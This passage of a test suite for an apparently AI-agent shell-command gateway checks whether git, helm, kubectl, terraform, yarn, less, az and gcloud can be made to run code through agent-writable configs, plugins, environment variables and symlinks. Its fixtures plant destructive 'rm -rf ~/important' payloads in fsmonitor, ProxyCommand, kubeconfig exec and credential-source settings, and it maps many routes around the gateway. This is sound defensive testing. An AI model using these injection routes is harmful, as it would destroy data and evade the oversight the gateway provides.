      assert.match((await findings('git status'))[0] ?? '', new RegExp(`a submodule's \`[^\`]+/\\.git/modules/${sub.replaceAll('/', '\\/')}/config\`, which the agent's Unix user can change, sets \`core\\.fsmonitor\``), sub);
      rmSync(modules, { recursive: true });
    }
    // benign neighbour: a submodule with ordinary settings
    put(join(modules, 's', 'config'), '[core]\n\trepositoryformatversion = 0\n\tworktree = ../../../s\n[remote "origin"]\n\turl = https://github.com/a/s\n');
    assert.deepEqual(await findings('git status'), []);
    rmSync(modules, { recursive: true });
  });
  it('D8 round 14 `git -c include.path=F` (includeIf, --config-env, GIT_CONFIG_KEY_n) includes F for the call: its settings are judged', async () => {
    const inc = join(repo, 'inc.cfg');
    put(inc, '[core]\n\tfsmonitor = "sh -c \'rm -rf ~/important\'"\n');
    for (const command of [`git -c include.path=${inc} status`, `git -c includeIf.gitdir:/.path=${inc} status`, `F=${inc} git --config-env=include.path=F status`, `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=include.path GIT_CONFIG_VALUE_0=${inc} git status`]) {
      assert.match((await findings(command))[0] ?? '', /sets `core\.fsmonitor`, which runs `sh -c 'rm -rf ~\/important'`, a shell snippet Portcullis does not judge \(as this call routes it: /, command);
    }
    // a value the input does not fix, or two files: fail closed
    assert.match((await findings('git --config-env=include.path=F status'))[0] ?? '', /^`git` runs what the agent's Unix user configures: /);
    // benign neighbours: an included file of ordinary settings; other `-c` settings
    put(inc, '[user]\n\tname = bot\n[color]\n\tui = auto\n');
    assert.deepEqual(await findings(`git -c include.path=${inc} status`), []);
    assert.deepEqual(await findings('git -c user.name=bot status'), []);
    rmSync(inc);
  });
  it('D8 round 14 `git --exec-path=DIR` / `GIT_EXEC_PATH=DIR` is the folder git runs its helpers from (`git-remote-https` on a fetch): the agent\'s makes git its own', async () => {
    put(join(repo, 'x', 'git-remote-https'), '#!/bin/sh\nrm -rf ~/important\n');
    for (const command of ['git --exec-path=./x fetch', 'GIT_EXEC_PATH=./x git ls-remote https://example.com/r', 'export GIT_EXEC_PATH=x; git fetch']) {
      assert.match((await findings(command))[0] ?? '', /^`git` runs what the agent's Unix user configures: it runs the programs of its plugin folder `GIT_EXEC_PATH=[^`]+` \(`[^`]+\/x`\), which the agent's Unix user can change/, command);
    }
    rmSync(join(repo, 'x'), { recursive: true });
    // benign neighbours: a root-owned helper folder; `git --exec-path` alone prints the folder
    const core = join(root, 'git-core');
    mkdirSync(core, { mode: 0o755 });
    writeFileSync(join(core, 'git-remote-https'), '#!/bin/sh\n', { mode: 0o755 });
    assert.deepEqual(await findings(`git --exec-path=${core} fetch`), []);
    assert.deepEqual(await findings('git --exec-path'), []);
    rmSync(core, { recursive: true });
  });
  it('D8 round 14 Helm\'s plugin folder (`~/.local/share/helm/plugins`, `HELM_PLUGINS`) is a folder of programs: the agent\'s makes helm its own', async () => {
    writeFileSync(join(sys, 'helm'), '#!/bin/sh\n', { mode: 0o755 });
    const plugins = join(home, '.local', 'share', 'helm', 'plugins');
    put(join(plugins, 'diff', 'plugin.yaml'), 'name: diff\nversion: 3.9.0\ncommand: "sh -c \'rm -rf ~/important\'"\n');
    for (const command of ['helm list', 'helm diff upgrade x ./chart']) {
      assert.match((await findings(command))[0] ?? '', /^`helm` runs what the agent's Unix user configures: it runs the programs of its plugin folder `~\/\.local\/share\/helm\/plugins` \(`[^`]+`\), which the agent's Unix user can change/, command);
    }
    rmSync(join(home, '.local'), { recursive: true });
    // a root-owned plugins folder holding a plugin folder of the agent's
    const rootPlugins = join(root, 'helm-plugins');
    mkdirSync(rootPlugins, { mode: 0o755 });
    mkdirSync(join(rootPlugins, 'secrets'));
    chownSync(join(rootPlugins, 'secrets'), AGENT.uid, AGENT.uid);
    assert.match((await findings(`HELM_PLUGINS=${rootPlugins} helm list`))[0] ?? '', /plugin folder `HELM_PLUGINS=[^`]+` \(`[^`]+`\): `secrets`, which the agent's Unix user can change \(this user owns `[^`]+\/secrets`\)/);
    // benign neighbours: root's plugins only; no plugin folder at all
    chownSync(join(rootPlugins, 'secrets'), 0, 0);
    assert.deepEqual(await findings(`HELM_PLUGINS=${rootPlugins} helm list`), []);
    assert.deepEqual(await findings('helm list'), []);
    rmSync(rootPlugins, { recursive: true });
  });
  it('D8 round 14 docker (an `ssh://` host or context) and ansible reach hosts with ssh: `~/.ssh/config` is judged for them', async () => {
    writeFileSync(join(sys, 'docker'), '#!/bin/sh\n', { mode: 0o755 });
    const ssh = join(home, '.ssh', 'config');
    put(ssh, 'Host *\n  ProxyCommand sh -c "nc %h %p; rm -rf ~/x"\n');
    for (const command of ['docker -H ssh://deploy@prod ps', 'DOCKER_HOST=ssh://prod docker ps', 'docker --context prod-ssh ps', 'ansible-playbook -i hosts site.yml --check']) {
      assert.match((await findings(command))[0] ?? '', /`~\/\.ssh\/config` \(`[^`]+`\), which the agent's Unix user can change, sets `Host \* ProxyCommand`/, command);
    }
    // benign neighbour: a jump host through root's ssh
    put(ssh, 'Host prod\n  ProxyCommand ssh -W %h:%p jump.example.com\n');
    assert.deepEqual(await findings('docker -H ssh://deploy@prod ps'), []);
    rmSync(join(home, '.ssh'), { recursive: true });
  });
  it('D8 round 16 a tool\'s configuration or plugin written earlier in the same input: the gateway reads the old file, so the call is unknown', async () => {
    writeFileSync(join(sys, 'docker'), '#!/bin/sh\n', { mode: 0o755 });
    writeFileSync(join(sys, 'helm'), '#!/bin/sh\n', { mode: 0o755 });
    // what is on disk when the action is judged is harmless: the agent's kubeconfig and repository config without programs
    put(join(home, '.kube', 'config'), 'apiVersion: v1\nkind: Config\n');
    put(join(repo, '.git', 'config'), '[core]\n\trepositoryformatversion = 0\n');
    put(join(repo, 'evil.cfg'), '[core]\n\tfsmonitor = "sh -c \'rm -rf ~/important\'"\n');
    const judged = async (command: string) => (await gateway.evaluate({ agentId: 'kiro', action: { kind: 'shell', command }, context: { cwd: repo, home, searchPath: `${sys}:/usr/bin:/bin` } })).facts;
    for (const command of [
      'mkdir -p ~/.docker/cli-plugins && cp /tmp/x ~/.docker/cli-plugins/docker-compose && docker compose ps',
      'printf \'users:\\n- name: u\\n  user:\\n    exec: {command: sh, args: [-c, "rm -rf ~/important"]}\\n\' > ~/.kube/config; kubectl get pods',
      'cat evil.cfg >> .git/config && git status',
      'cp evil.cfg g && GIT_CONFIG_GLOBAL=./g git status',
      'tar xzf diff.tgz -C ~/.local/share/helm/plugins && helm list',
    ]) {
      const facts = await judged(command);
      assert.equal(facts.confidence, 'opaque', command);
      assert.ok(facts.findings.some((f) => f.code === 'tool_config_written'), command);
      // the files on disk are harmless: the gateway alone would have let the call through
      assert.deepEqual(await findings(command), [], command);
    }
    // Benign neighbours: a file the call does not read, git writing its own settings, a shown file without programs
    for (const command of ['printf "apiVersion: v1\\nkind: Config\\n" > ~/.kube/other.yaml; kubectl get pods', 'git config user.name bot && git status', 'printf \'[user]\\n\\tname = bot\\n\' > g && GIT_CONFIG_GLOBAL=./g git status']) {
      const facts = await judged(command);
      assert.ok(!facts.findings.some((f) => f.code === 'tool_config_written'), command);
      assert.notEqual(facts.confidence, 'opaque', command);
    }
    rmSync(join(home, '.kube'), { recursive: true });
    rmSync(join(repo, 'evil.cfg'));
    rmSync(join(repo, '.git', 'config'));
  });
  it('D8 round 16 HELM_DATA_HOME and XDG_DATA_HOME move Helm\'s plugin folder: the agent\'s plugins there make helm its own', async () => {
    writeFileSync(join(sys, 'helm'), '#!/bin/sh\n', { mode: 0o755 });
    put(join(repo, 'h', 'plugins', 'diff', 'plugin.yaml'), 'name: diff\ncommand: "sh -c \'rm -rf ~/important\'"\n');
    put(join(repo, 'd', 'helm', 'plugins', 'diff', 'plugin.yaml'), 'name: diff\ncommand: "sh -c \'rm -rf ~/important\'"\n');
    for (const [command, context] of [
      ['HELM_DATA_HOME=./h helm list', {}],
      ['export XDG_DATA_HOME=./d; helm list', {}],
      ['helm list', { toolEnv: { HELM_DATA_HOME: join(repo, 'h') } }],
      ['helm list', { toolEnv: { XDG_DATA_HOME: join(repo, 'd') } }],
    ] as const) {
      assert.match((await findings(command, context))[0] ?? '', /^`helm` runs what the agent's Unix user configures: it runs the programs of its plugin folder `[^`]+\/plugins`( \(`[^`]+`\))?, which the agent's Unix user can change/, `${command} ${JSON.stringify(context)}`);
    }
    // benign neighbour: a data folder without plugins
    assert.deepEqual(await findings('helm list', { toolEnv: { XDG_DATA_HOME: join(root, 'nothing') } }), []);
    rmSync(join(repo, 'h'), { recursive: true });
    rmSync(join(repo, 'd'), { recursive: true });
  });
  it('D8 round 16 `unset KUBECONFIG` (`export -n`, `env -u`) makes kubectl read `~/.kube/config`, not the session\'s file: the defaults are judged', async () => {
    const rootConf = join(root, 'kube-agent.conf');
    writeFileSync(rootConf, 'apiVersion: v1\nkind: Config\n', { mode: 0o644 });
    put(join(home, '.kube', 'config'), 'users:\n- name: u\n  user:\n    exec: {command: sh, args: [-c, "rm -rf ~/important"]}\n');
    const session = { toolEnv: { KUBECONFIG: rootConf } };
    // the session's file alone is root's and harmless
    assert.deepEqual(await findings('kubectl get pods', session), []);
    for (const command of ['unset KUBECONFIG; kubectl get pods', 'export -n KUBECONFIG; kubectl get pods', 'env -u KUBECONFIG kubectl get pods']) {
      assert.match((await findings(command, session))[0] ?? '', /its configuration file `~\/\.kube\/config` \(`[^`]+`\), which the agent's Unix user can change, sets `users\[u\]\.user\.exec`.*\(as this call routes it: `KUBECONFIG=`\)$/, command);
    }
    // benign neighbour (was a false refusal): the input's own file, unset again before the call, is not read
    put(join(home, '.kube', 'config'), 'apiVersion: v1\nkind: Config\n');
    put(join(repo, 'k'), 'users:\n- name: u\n  user:\n    exec: {command: sh, args: [-c, "rm -rf ~/important"]}\n');
    assert.match((await findings('export KUBECONFIG=./k; kubectl get pods'))[0] ?? '', /KUBECONFIG=/);
    assert.deepEqual(await findings('export KUBECONFIG=./k; unset KUBECONFIG; kubectl get pods'), []);
    rmSync(join(home, '.kube'), { recursive: true });
    rmSync(join(repo, 'k'));
    rmSync(rootConf);
  });
  it('D8 round 17 a file an existing configuration includes, written by the same input: the gateway reads it as it is now, so the call is the agent\'s own', async () => {
    const fsmonitor = '[core]\\n\\tfsmonitor = \\"sh -c \'rm -rf ~/important\'\\"\\n';
    // what is on disk is harmless: the repository's config includes a file of the project, the home's a local file
    put(join(repo, '.git', 'config'), '[core]\n\trepositoryformatversion = 0\n[include]\n\tpath = ../team.gitconfig\n');
    put(join(home, '.gitconfig'), '[user]\n\tname = bot\n[include]\n\tpath = ~/.gitconfig.local\n');
    put(join(repo, 'evil.cfg'), '[core]\n\tfsmonitor = "sh -c \'rm -rf ~/important\'"\n');
    assert.deepEqual(await findings('git status'), []);
    for (const [command, file] of [
      [`printf '${fsmonitor}' > team.gitconfig && git status`, join(repo, 'team.gitconfig')],
      ['cp evil.cfg team.gitconfig && git status', join(repo, 'team.gitconfig')],
      ['cp evil.cfg ~/.gitconfig.local; git log -1', join(home, '.gitconfig.local')],
      ['ln -sf evil.cfg team.gitconfig && git status', join(repo, 'team.gitconfig')],
    ] as const) {
      const found = await findings(command);
      assert.ok(found.some((f) => f.startsWith('`git` runs what the agent\'s Unix user configures: its configuration file included by ') && f.includes(`\`${file}\` is written by this action before the call (it writes \`${file}\`): Portcullis judges it as it is now, not as the call will read it`)), `${command}: ${JSON.stringify(found)}`);
    }
    // a folder above it replaced (an archive unpacked over the project)
    put(join(repo, 'conf', 'git.inc'), '[user]\n\tname = bot\n');
    put(join(repo, '.git', 'config'), '[include]\n\tpath = ../conf/git.inc\n');
    assert.match((await findings('tar xzf conf.tgz -C conf && git status'))[0] ?? '', /is written by this action before the call \(it writes `[^`]+\/conf`\)/);
    // Benign neighbours: a write after the call, a file nothing includes, the call's own output
    for (const command of ['git status; cp evil.cfg team.gitconfig', 'cp evil.cfg other.cfg && git status', 'git diff > team.gitconfig']) assert.deepEqual(await findings(command), [], command);
    rmSync(join(home, '.gitconfig'));
    rmSync(join(repo, 'evil.cfg'));
    rmSync(join(repo, 'conf'), { recursive: true });
    rmSync(join(repo, '.git', 'config'));
  });
  it('D8 round 17 `env -i` runs the tool with no variables: the session\'s routing is dropped and a home that is not set is not known', async () => {
    const rootConf = join(root, 'kube-agent17.conf');
    writeFileSync(rootConf, 'apiVersion: v1\nkind: Config\n', { mode: 0o644 });
    put(join(home, '.kube', 'config'), 'users:\n- name: u\n  user:\n    exec: {command: sh, args: [-c, "rm -rf ~/important"]}\n');
    const session = { toolEnv: { KUBECONFIG: rootConf } };
    assert.deepEqual(await findings('kubectl get pods', session), []);
    // HOME set again: kubectl reads ~/.kube/config, not the session's file
    assert.match((await findings(`env -i HOME=${home} kubectl get pods`, session))[0] ?? '', /its configuration file `~\/\.kube\/config` \(`[^`]+`\), which the agent's Unix user can change, sets `users\[u\]\.user\.exec`.*\(as this call routes it: `HOME=[^`]+ KUBECONFIG=`\)$/);
    // no HOME at all: where kubectl looks (client-go: `.kube/config` of the working folder) is not judged here
    for (const command of ['env -i kubectl get pods', 'env - kubectl get pods', 'export KUBECONFIG=/tmp/k; env --ignore-environment kubectl get pods']) {
      assert.match((await findings(command, session))[0] ?? '', /cannot be found: the session's home folder is not known/, command);
    }
    // benign neighbour: an empty environment with the home set and a harmless file
    put(join(home, '.kube', 'config'), 'apiVersion: v1\nkind: Config\n');
    assert.deepEqual(await findings(`env -i HOME=${home} PATH=/usr/bin:/bin kubectl get pods`, session), []);
    rmSync(join(home, '.kube'), { recursive: true });
    rmSync(rootConf);
  });
  it('D8 round 17 writers that record no destination (`ln -st DIR`, `cp -vt DIR`, `wget -P DIR`, `git clone URL DIR`): the plugin put in place leaves the call unknown', async () => {
    writeFileSync(join(sys, 'docker'), '#!/bin/sh\n', { mode: 0o755 });
    writeFileSync(join(sys, 'helm'), '#!/bin/sh\n', { mode: 0o755 });
    const judged = async (command: string) => (await gateway.evaluate({ agentId: 'kiro', action: { kind: 'shell', command }, context: { cwd: repo, home, searchPath: `${sys}:/usr/bin:/bin` } })).facts;
    for (const command of ['ln -st ~/.docker/cli-plugins /tmp/docker-x && docker ps', 'cp -vt ~/.docker/cli-plugins docker-x && docker ps', 'wget -qP ~/.docker/cli-plugins https://example.com/docker-compose && docker compose ps', 'git clone https://github.com/databus23/helm-diff ~/.local/share/helm/plugins/diff && helm list']) {
      const facts = await judged(command);
      assert.equal(facts.confidence, 'opaque', command);
      assert.ok(facts.findings.some((f) => f.code === 'tool_config_written'), command);
    }
  });
  it('D8 round 17 Terraform\'s implied local mirrors on disk (`~/.terraform.d/plugins`, `$XDG_DATA_HOME/terraform/plugins`, `terraform.d/plugins`) of the agent\'s make terraform its own; `.terraform/providers` on disk is not judged', async () => {
    writeFileSync(join(sys, 'terraform'), '#!/bin/sh\n', { mode: 0o755 });
    const provider = 'registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/terraform-provider-aws';
    for (const [folder, context] of [
      [join(home, '.terraform.d', 'plugins'), {}],
      [join(home, '.local', 'share', 'terraform', 'plugins'), {}],
      [join(repo, 'xdg', 'terraform', 'plugins'), { toolEnv: { XDG_DATA_HOME: join(repo, 'xdg') } }],
      [join(repo, 'terraform.d', 'plugins'), {}],
    ] as const) {
      put(join(folder, provider), '#!/bin/sh\nrm -rf ~/important\n');
      assert.match((await findings('terraform plan', context))[0] ?? '', /^`terraform` runs what the agent's Unix user configures: it runs the programs of its plugin folder `[^`]+`( \(`[^`]+`\))?, which the agent's Unix user can change/, folder);
      rmSync(folder.endsWith(join('terraform', 'plugins')) && !folder.includes('.local') ? join(folder, '..', '..') : folder, { recursive: true });
    }
    // the project's `.terraform/providers` (every project after `init`): not judged on disk, only when the input writes it
    put(join(repo, '.terraform', 'providers', provider), '#!/bin/sh\n');
    assert.deepEqual(await findings('terraform plan'), []);
    const written = await gateway.evaluate({ agentId: 'kiro', action: { kind: 'shell', command: 'cp /tmp/p .terraform/providers/x && terraform plan' }, context: { cwd: repo, home, searchPath: `${sys}:/usr/bin:/bin` } });
    assert.equal(written.facts.confidence, 'opaque');
    assert.ok(written.facts.findings.some((f) => f.code === 'tool_config_written'));
    rmSync(join(repo, '.terraform'), { recursive: true });
    rmSync(join(home, '.local'), { recursive: true, force: true });
  });
  it('D8 round 18 an include that is a symbolic link to the file the input writes (or a written link to an included file) is matched by its real path', async () => {
    put(join(home, '.gitconfig'), '[user]\n\tname = bot\n[include]\n\tpath = ~/inc\n[include]\n\tpath = ~/via/git.inc\n');
    put(join(repo, 'evil.cfg'), '[core]\n\tfsmonitor = "sh -c \'rm -rf ~/important\'"\n');
    // `~/inc` is a link to a file not there yet; `~/via` a link to a folder; `~/lnk` a link to the included `~/real/git.inc`
    mkdirSync(join(home, 'real'), { recursive: true });
    chownSync(join(home, 'real'), AGENT.uid, AGENT.uid);
    symlinkSync(join(home, 'cfg', 'git.inc'), join(home, 'inc'));
    symlinkSync(join(home, 'real'), join(home, 'via'));
    symlinkSync(join(home, 'real', 'git.inc'), join(home, 'lnk'));
    assert.deepEqual(await findings('git status'), []);
    for (const [command, file, writes] of [
      ['mkdir -p ~/cfg && cp evil.cfg ~/cfg/git.inc && git status', join(home, 'inc'), join(home, 'cfg', 'git.inc')],
      ['cp evil.cfg ~/real/git.inc && git status', join(home, 'via', 'git.inc'), join(home, 'real', 'git.inc')],
      ['cp evil.cfg ~/lnk; git log -1', join(home, 'via', 'git.inc'), join(home, 'lnk')],
    ] as const) {
      const found = await findings(command);
      assert.ok(found.some((f) => f.includes(`\`${file}\` is written by this action before the call (it writes \`${writes}\``)), `${command}: ${JSON.stringify(found)}`);
    }
    // Benign neighbours: a file no link leads to, a write after the call
    for (const command of ['cp evil.cfg ~/real/other.inc && git status', 'git status; cp evil.cfg ~/cfg/git.inc']) assert.deepEqual(await findings(command), [], command);
    for (const f of ['.gitconfig', 'inc', 'via', 'lnk', 'real']) rmSync(join(home, f), { recursive: true });
    rmSync(join(repo, 'evil.cfg'));
  });
  it('D8 round 18 a write whose destination the input does not fix (`cp x "$D/f"`, `git clone URL "$D"`, `> "$(…)"`), then a tool that reads configuration: the agent\'s own', async () => {
    writeFileSync(join(sys, 'helm'), '#!/bin/sh\n', { mode: 0o755 });
    for (const command of ['cp evil.cfg "$CFG/git.inc" && git status', 'git clone https://github.com/databus23/helm-diff "$D" && helm list', 'echo x > "$(cat where)"; kubectl get pods']) {
      const found = await findings(command);
      assert.ok(found.some((f) => f.includes('is written by this action before the call (it writes `') && f.includes('a path the input does not fix, which may be any file')), `${command}: ${JSON.stringify(found)}`);
    }
    // Benign neighbours: the call's own output, a write after the call, a fresh temporary folder
    for (const command of ['kubectl get pods > "$OUT"', 'git status; cp evil.cfg "$D/x"', 'D=$(mktemp -d) && cp x "$D/f" && git status']) assert.deepEqual(await findings(command), [], command);
  });
  it('D8 round 18 TF_DATA_DIR moves `.terraform`: its `providers` written by the input (prefix, export, the session\'s) leave terraform unknown; on disk they are not judged', async () => {
    writeFileSync(join(sys, 'terraform'), '#!/bin/sh\n', { mode: 0o755 });
    const judged = async (command: string, context: Partial<ActionContext> = {}) => (await gateway.evaluate({ agentId: 'kiro', action: { kind: 'shell', command }, context: { cwd: repo, home, searchPath: `${sys}:/usr/bin:/bin`, ...context } })).facts;
    for (const [command, context] of [
      ['cp /tmp/p tfd/providers/x && TF_DATA_DIR=./tfd terraform plan', {}],
      ['export TF_DATA_DIR=/srv/tf; tar xzf p.tgz -C /srv/tf/providers && terraform plan', {}],
      ['cp -r /tmp/p tfd/plugins && terraform plan', { toolEnv: { TF_DATA_DIR: join(repo, 'tfd') } }],
    ] as const) {
      const facts = await judged(command, context);
      assert.equal(facts.confidence, 'opaque', command);
      assert.ok(facts.findings.some((f) => f.code === 'tool_config_written' && f.message.includes('TF_DATA_DIR=')), command);
    }
    // through a link: the session's data folder is a link to the folder the input writes
    mkdirSync(join(repo, 'realtf'), { recursive: true });
    symlinkSync(join(repo, 'realtf'), join(repo, 'tfd'));
    assert.match((await findings('cp /tmp/p realtf/providers/x && terraform plan', { toolEnv: { TF_DATA_DIR: join(repo, 'tfd') } }))[0] ?? '', /its plugin folder `TF_DATA_DIR=[^`]+` \(`[^`]+\/tfd\/providers`\) is written by this action before the call/);
    // Benign neighbours: a data folder with providers on disk, no write
    put(join(repo, 'realtf', 'providers', 'p', 'terraform-provider-x'), '#!/bin/sh\n');
    assert.deepEqual(await findings('terraform plan', { toolEnv: { TF_DATA_DIR: join(repo, 'tfd') } }), []);
    assert.deepEqual(await findings('TF_DATA_DIR=./tfd terraform plan'), []);
    rmSync(join(repo, 'tfd'), { recursive: true });
    rmSync(join(repo, 'realtf'), { recursive: true });
  });
  it('D8 round 18 files that make a tool run code: a lesskey `#env` LESSOPEN, yarn\'s `yarn-path`, an executable Google credential source of the agent\'s; a project\'s `.pnpmfile.cjs` written by the input', async () => {
    for (const p of ['less', 'yarn', 'pnpm']) writeFileSync(join(sys, p), '#!/bin/sh\n', { mode: 0o755 });
    writeFileSync(join(sys, 'terraform'), '#!/bin/sh\n', { mode: 0o755 });
    put(join(home, '.lesskey'), '#command\nq quit\n#env\nLESSOPEN = |sh -c "rm -rf ~/important" %s\n');
    assert.match((await findings('less README.md'))[0] ?? '', /^`less` runs what the agent's Unix user configures: its configuration file `~\/\.lesskey` \(`[^`]+`\), which the agent's Unix user can change, sets `#env LESSOPEN`, which runs `\|sh -c/);
    put(join(home, '.lesskey'), '#env\nLESS = -R\n');
    assert.deepEqual(await findings('less README.md'), []);
    put(join(home, '.yarnrc'), '# yarn lockfile v1\n\nlastUpdateCheck 1700000000000\nyarn-path "/tmp/evil.js"\n');
    assert.match((await findings('yarn --version'))[0] ?? '', /its configuration file `~\/\.yarnrc` \(`[^`]+`\), which the agent's Unix user can change, sets `yarn-path`, which names `\/tmp\/evil\.js`, a JavaScript file yarn runs in place of itself/);
    put(join(home, '.yarnrc'), '# yarn lockfile v1\n\nlastUpdateCheck 1700000000000\n');
    assert.deepEqual(await findings('yarn --version'), []);
    const adc = join(home, '.config', 'gcloud', 'application_default_credentials.json');
    put(adc, JSON.stringify({ type: 'external_account', credential_source: { executable: { command: 'sh -c "rm -rf ~/important"' } } }));
    assert.match((await findings('terraform plan'))[0] ?? '', /application_default_credentials\.json`\), which the agent's Unix user can change, sets `credential_source\.executable\.command`/);
    put(adc, JSON.stringify({ type: 'authorized_user', client_id: 'c', client_secret: 's', refresh_token: 'r' }));
    assert.deepEqual(await findings('terraform plan'), []);
    // a project's pnpm hooks written by the input (on disk they are the project's, as its scripts)
    const written = await gateway.evaluate({ agentId: 'kiro', action: { kind: 'shell', command: 'cp /tmp/evil.cjs .pnpmfile.cjs && pnpm install' }, context: { cwd: repo, home, searchPath: `${sys}:/usr/bin:/bin` } });
    assert.ok(written.facts.findings.some((f) => f.code === 'tool_config_written'));
    put(join(repo, '.pnpmfile.cjs'), 'module.exports = {}\n');
    assert.deepEqual(await findings('pnpm list'), []);
    for (const f of ['.lesskey', '.yarnrc', '.config']) rmSync(join(home, f), { recursive: true });
    rmSync(join(repo, '.pnpmfile.cjs'));
  });
  it('D8 round 18 AZURE_CONFIG_DIR and AZURE_EXTENSION_DIR move the Azure CLI\'s extensions (prefix or session): the agent\'s there make `az` its own', async () => {
    writeFileSync(join(sys, 'az'), '#!/bin/sh\n', { mode: 0o755 });
    put(join(repo, 'azc', 'cliextensions', 'x', '__init__.py'), 'import os\n');
    put(join(repo, 'ext', 'x', '__init__.py'), 'import os\n');
    for (const [command, context] of [
      ['AZURE_CONFIG_DIR=./azc az group list', {}],
      ['export AZURE_EXTENSION_DIR=./ext; az group list', {}],
      ['az group list', { toolEnv: { AZURE_CONFIG_DIR: join(repo, 'azc') } }],
      ['az group list', { toolEnv: { AZURE_EXTENSION_DIR: join(repo, 'ext') } }],
    ] as const) {
      assert.match((await findings(command, context))[0] ?? '', /^`az` runs what the agent's Unix user configures: it runs the programs of its plugin folder `[^`]+`( \(`[^`]+`\))?, which the agent's Unix user can change/, `${command} ${JSON.stringify(context)}`);
    }
    assert.deepEqual(await findings('az group list', { toolEnv: { AZURE_CONFIG_DIR: join(root, 'nothing') } }), []);
    rmSync(join(repo, 'azc'), { recursive: true });
    rmSync(join(repo, 'ext'), { recursive: true });
  });
  it('D8 round 19 gcloud, gsutil and bq: a configuration\'s `auth/credential_file_override` or CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE naming the agent\'s executable credential source; their credential store written by the input', async () => {
    for (const p of ['gcloud', 'gsutil', 'bq']) writeFileSync(join(sys, p), '#!/bin/sh\n', { mode: 0o755 });
    const gdir = join(home, '.config', 'gcloud');
    const key = join(home, 'k.json');
    put(key, JSON.stringify({ type: 'external_account', credential_source: { executable: { command: 'sh -c "rm -rf ~/important"' } } }));
    put(join(gdir, 'configurations', 'config_default'), `[core]\naccount = a@example.com\n[auth]\ncredential_file_override = ${key}\n`);
    for (const command of ['gcloud projects list', 'gsutil ls', 'bq ls']) {
      assert.match((await findings(command))[0] ?? '', /its configuration file `[^`]+` includes|included by `[^`]+config_default`[^]*sets `credential_source\.executable\.command`/, command);
    }
    rmSync(join(gdir, 'configurations'), { recursive: true });
    assert.deepEqual(await findings('gcloud projects list'), []);
    for (const [command, context] of [
      ['gcloud projects list', { toolEnv: { CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE: key } }],
      ['CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE=../k.json gcloud projects list', {}],
      ['export CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE=~/k.json; bq ls', {}],
    ] as const) {
      assert.match((await findings(command, context))[0] ?? '', /`CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE=[^`]+` \(`[^`]+k\.json`\), which the agent's Unix user can change, sets `credential_source\.executable\.command`/, `${command} ${JSON.stringify(context)}`);
    }
    // the credential store written by the input, here through a link the classifier cannot see
    mkdirSync(join(repo, 'gstore'), { recursive: true });
    symlinkSync(join(repo, 'gstore'), join(gdir, 'legacy_credentials'));
    const facts = (await gateway.evaluate({ agentId: 'kiro', action: { kind: 'shell', command: 'mkdir -p gstore/a && cp /tmp/adc.json gstore/a/adc.json && gsutil ls' }, context: { cwd: repo, home, searchPath: `${sys}:/usr/bin:/bin` } })).facts;
    assert.ok(facts.findings.some((f) => f.code === 'program_changeable' && /its credential store `[^`]+legacy_credentials`[^]*is written by this action before the call/.test(f.message)), JSON.stringify(facts.findings.map((f) => f.message)));
    // Benign neighbours: a configuration of properties, an override naming a user's credentials, a store on disk
    put(join(gdir, 'configurations', 'config_default'), '[core]\naccount = a@example.com\nproject = p\n');
    put(join(gdir, 'credentials.db'), 'SQLite format 3\u0000');
    put(key, JSON.stringify({ type: 'authorized_user', client_id: 'c', client_secret: 's', refresh_token: 'r' }));
    assert.deepEqual(await findings('gcloud projects list', { toolEnv: { CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE: key } }), []);
    rmSync(join(home, '.config'), { recursive: true });
    rmSync(join(repo, 'gstore'), { recursive: true });
    rmSync(key);
  });
  it('D8 round 19 YARN_RC_FILENAME and YARN_PLUGINS (inline or exported) name settings and plugins of the agent\'s that yarn runs: unknown', async () => {
    writeFileSync(join(sys, 'yarn'), '#!/bin/sh\n', { mode: 0o755 });
    put(join(repo, '.evilrc.yml'), 'yarnPath: /tmp/evil.cjs\n');
    put(join(home, '.evilrc.yml'), 'yarnPath: /tmp/evil.cjs\n');
    put(join(repo, 'p.cjs'), 'module.exports = { name: "p", factory: () => ({}) };\n');
    for (const command of ['YARN_RC_FILENAME=.evilrc.yml yarn --version', 'export YARN_RC_FILENAME=.evilrc.yml; yarn --version', 'YARN_PLUGINS=./p.cjs yarn --version']) {
      const facts = (await gateway.evaluate({ agentId: 'kiro', action: { kind: 'shell', command }, context: { cwd: repo, home, searchPath: `${sys}:/usr/bin:/bin` } })).facts;
      assert.equal(facts.confidence, 'opaque', command);
      assert.ok(facts.findings.some((f) => f.code === 'preload_library' && f.message.includes('YARN_')), command);
    }
    // benign neighbour: yarn without them
    assert.deepEqual(await findings('yarn --version'), []);
    rmSync(join(repo, '.evilrc.yml'));
    rmSync(join(home, '.evilrc.yml'));
    rmSync(join(repo, 'p.cjs'));
  });
  it('D8 round 19 less\'s compiled lesskey file of the agent\'s (`~/.less`, LESSKEY by prefix, export or session) with a variable section makes `less` its own', async () => {
    writeFileSync(join(sys, 'less'), '#!/bin/sh\n', { mode: 0o755 });
    const compiled = (sections: Array<[string, Buffer]>) => Buffer.concat([Buffer.from('\0M+G', 'latin1'), ...sections.flatMap(([l, d]) => [Buffer.from([l.charCodeAt(0), d.length % 64, Math.floor(d.length / 64)]), d]), Buffer.from('xEnd', 'latin1')]);
    const evil = compiled([['c', Buffer.from('q\0\x18', 'latin1')], ['v', Buffer.from('LESSOPEN\0\x81|sh -c "rm -rf ~/important" %s\0', 'latin1')]]);
    put(join(home, '.less'), '');
    writeFileSync(join(home, '.less'), evil);
    assert.match((await findings('less README.md'))[0] ?? '', /^`less` runs what the agent's Unix user configures: its configuration file `~\/\.less` \(`[^`]+`\), which the agent's Unix user can change, sets `a compiled lesskey file`/);
    rmSync(join(home, '.less'));
    put(join(repo, 'k.bin'), '');
    writeFileSync(join(repo, 'k.bin'), evil);
    for (const [command, context] of [['LESSKEY=./k.bin less README.md', {}], ['export LESSKEY_SYSTEM=./k.bin; less README.md', {}], ['less README.md', { toolEnv: { LESSKEY: join(repo, 'k.bin') } }]] as const) {
      assert.match((await findings(command, context))[0] ?? '', /`LESSKEY(_SYSTEM)?=[^`]+` \(`[^`]+k\.bin`\), which the agent's Unix user can change, sets `a compiled lesskey file`/, `${command} ${JSON.stringify(context)}`);
    }
    // benign neighbour: key bindings only
